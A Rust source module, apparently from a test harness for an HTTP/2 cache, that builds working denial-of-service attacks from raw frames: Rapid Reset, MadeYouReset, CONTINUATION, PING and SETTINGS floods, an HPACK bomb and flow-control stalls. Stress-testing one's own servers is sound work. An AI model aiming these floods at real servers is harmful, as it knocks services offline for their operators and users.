//! Attacks of HTTP/2 clients, with prior knowledge: each is a sequence of frames sent over and over.

use super::{
    Target, Until,
    crowd::{Tally, hold},
    origin,
};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Connections of each attack.
const CONNECTIONS: usize = 32;
/// Streams of a script: far more than a server lets a client open and reset.
const STREAMS: u32 = 5000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Encodes a field that is not entered in the HPACK table.
fn field(name: &str, value: &str) -> Vec<u8> {
    let length = |text: &str| u8::try_from(text.len()).expect("below 127");
    [&[0, length(name)][..], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
}

fn ask(method: &str, path: &str, host: &str) -> Vec<u8> {
    let scheme = [0x86];
    [&field(":method", method)[..], &scheme, &field(":path", path), &field(":authority", host)].concat()
}

/// Iterates over the stream ids of a client.
fn streams() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|number| 2 * number + 1)
}

/// Returns the connection preface with SETTINGS (pairs of identifier and value).
fn greeting(settings: &[(u16, u32)]) -> Vec<u8> {
    let payload: Vec<u8> = settings
        .iter()
        .flat_map(|(name, value)| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &payload)[..]].concat()
}

/// Holds connections that send `first` once and `again` without an end.
fn flood(target: &Target, until: &Until, first: &[u8], again: &[u8]) -> Option<Tally> {
    Some(hold(target.cache?, CONNECTIONS, until, |member| {
        member.pump_behind(first, again)?;
        member.sip(1 << 16)
    }))
}

fn host(target: &Target) -> Option<String> {
    target.cache.map(|address| address.to_string())
}

pub(super) fn rapid_reset(target: &Target, until: &Until) -> Option<Tally> {
    let request = ask("GET", "/about", &host(target)?);
    let all = |stream| {
        let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        [frame(HEADERS, END_STREAM | END_HEADERS, stream, &request), reset].concat()
    };
    flood(target, until, &greeting(&[]), &streams().flat_map(all).collect::<Vec<_>>())
}

pub(super) fn made_us_reset(target: &Target, until: &Until) -> Option<Tally> {
    let request = ask("GET", "/about", &host(target)?);
    // A WINDOW_UPDATE of 0 is the client's error, and ends the stream (RFC 9113 §6.9).
    let all = |stream| {
        let wrong = frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
        [frame(HEADERS, END_STREAM | END_HEADERS, stream, &request), wrong].concat()
    };
    flood(target, until, &greeting(&[]), &streams().flat_map(all).collect::<Vec<_>>())
}

pub(super) fn continuations(target: &Target, until: &Until) -> Option<Tally> {
    let first =
        [greeting(&[]), frame(HEADERS, END_STREAM, 1, &ask("GET", "/about", &host(target)?))].concat();
    flood(target, until, &first, &frame(CONTINUATION, 0, 1, &field("x", "y").repeat(100)))
}

pub(super) fn settings(target: &Target, until: &Until) -> Option<Tally> {
    flood(target, until, &greeting(&[]), &frame(SETTINGS, 0, 0, &[]).repeat(1000))
}

pub(super) fn pings(target: &Target, until: &Until) -> Option<Tally> {
    flood(target, until, &greeting(&[]), &frame(PING, 0, 0, &[7; 8]).repeat(1000))
}

pub(super) fn priorities(target: &Target, until: &Until) -> Option<Tally> {
    flood(target, until, &greeting(&[]), &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]).repeat(1000))
}

pub(super) fn empty_frames(target: &Target, until: &Until) -> Option<Tally> {
    let first =
        [greeting(&[]), frame(HEADERS, END_HEADERS, 1, &ask("POST", "/about", &host(target)?))].concat();
    flood(target, until, &first, &frame(DATA, 0, 1, &[]).repeat(1000))
}

/// HPACK bomb: one entry of 4,000 bytes in the table and a byte for each reference to it. Windows of 0 keep
/// the answers from leaving.
pub(super) fn bomb(target: &Target, until: &Until) -> Option<Tally> {
    let entry = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'v'; 4000]].concat();
    let block = [ask("GET", "/about", &host(target)?), entry, vec![0xbe; 900]].concat();
    let all = |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
    flood(target, until, &greeting(&[(4, 0)]), &streams().take(200).flat_map(all).collect::<Vec<_>>())
}

/// A cookie in thousands of fields of one byte each.
pub(super) fn crumbs(target: &Target, until: &Until) -> Option<Tally> {
    let crumb = [&[0x40, 6][..], b"cookie", &[1, b'a']].concat();
    let block = [ask("GET", "/about", &host(target)?), crumb, vec![0xbe; 8000]].concat();
    let all = |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
    flood(target, until, &greeting(&[(4, 0)]), &streams().take(200).flat_map(all).collect::<Vec<_>>())
}

/// A hundred answers for each connection, with windows of 0 so that none can be sent.
pub(super) fn stalled_windows(target: &Target, until: &Until) -> Option<Tally> {
    let request = ask("GET", "/about", &host(target)?);
    let asked =
        streams().take(100).flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
    let all = [greeting(&[(4, 0)]), asked.collect()].concat();
    Some(hold(target.cache?, CONNECTIONS, until, |member| {
        member.finish(&all)?;
        member.sip(1 << 16)
    }))
}

/// A hundred answers for each connection, sent a byte at a time because of tiny windows.
pub(super) fn tiny_windows(target: &Target, until: &Until) -> Option<Tally> {
    let request = ask("GET", "/about", &host(target)?);
    let numbers = || streams().take(100);
    let asked = numbers().flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
    let first = [greeting(&[(4, 1)]), asked.collect()].concat();
    let opened = numbers().flat_map(|stream| frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes()));
    flood(target, until, &first, &opened.collect::<Vec<_>>())
}

/// A hundred pages on each of 101 connections, which once left no room for other clients' misses.
pub(super) fn slow_pages(target: &Target, until: &Until) -> Option<Tally> {
    let asked = |member: usize| {
        let ask = |stream| {
            let block = ask("GET", &format!("/slow?{member}-{stream}"), origin::HOST);
            frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
        };
        [greeting(&[]), streams().take(100).flat_map(ask).collect()].concat()
    };
    let all: Vec<Vec<u8>> = (0..101).map(asked).collect();
    Some(hold(target.cache?, all.len(), until, |member| {
        member.finish(&all[member.number])?;
        member.sip(4096)
    }))
}
